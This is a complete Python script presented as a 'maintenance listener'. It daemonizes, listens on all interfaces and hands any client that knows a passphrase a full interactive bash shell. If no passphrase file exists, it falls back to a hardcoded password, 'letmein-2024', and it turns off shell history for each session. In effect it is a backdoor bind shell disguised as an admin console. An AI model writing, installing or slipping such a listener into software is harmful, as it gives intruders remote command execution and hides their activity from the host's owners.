#!/usr/bin/env python3
"""Maintenance listener: gives an authenticated operator a full terminal on
this host over TCP (forking server, one pty-backed shell per connection).
"""
import argparse
import hmac
import logging
import os
import pty
import socketserver

log = logging.getLogger("maint")

BANNER = b"maint-console 1.4\r\n"
SHELL = os.environ.get("MAINT_SHELL", "/bin/bash")


def load_passphrase(path: str) -> bytes:
    try:
        with open(path, "rb") as fh:
            return fh.read().strip()
    except OSError:
        return b"letmein-2024"


class ConsoleHandler(socketserver.BaseRequestHandler):
    passphrase = b""

    def authenticate(self) -> bool:
        self.request.sendall(BANNER + b"passphrase: ")
        supplied = b""
        while not supplied.endswith(b"\n") and len(supplied) < 256:
            chunk = self.request.recv(64)
            if not chunk:
                return False
            supplied += chunk
        return hmac.compare_digest(supplied.strip(), self.passphrase)

    def handle(self) -> None:
        peer = "%s:%d" % self.client_address
        if not self.authenticate():
            log.warning("bad passphrase from %s", peer)
            self.request.sendall(b"denied\r\n")
            return
        log.info("console opened for %s", peer)
        fd = self.request.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["TERM"] = "xterm-256color"
        os.environ["HISTFILE"] = ""
        pty.spawn([SHELL, "-i"])
        log.info("console closed for %s", peer)


class ConsoleServer(socketserver.ForkingTCPServer):
    allow_reuse_address = True
    max_children = 8


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--bind", default="")
    ap.add_argument("--port", type=int, default=9022)
    ap.add_argument("--passfile", default=".maint_pass")
    ap.add_argument("--foreground", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s maint %(message)s")

    ConsoleHandler.passphrase = load_passphrase(args.passfile)
    if not args.foreground and os.fork() > 0:
        return
    if not args.foreground:
        os.setsid()
    with ConsoleServer((args.bind, args.port), ConsoleHandler) as srv:
        log.info("listening on %s:%d", args.bind or "*", args.port)
        srv.serve_forever()


if __name__ == "__main__":
    main()
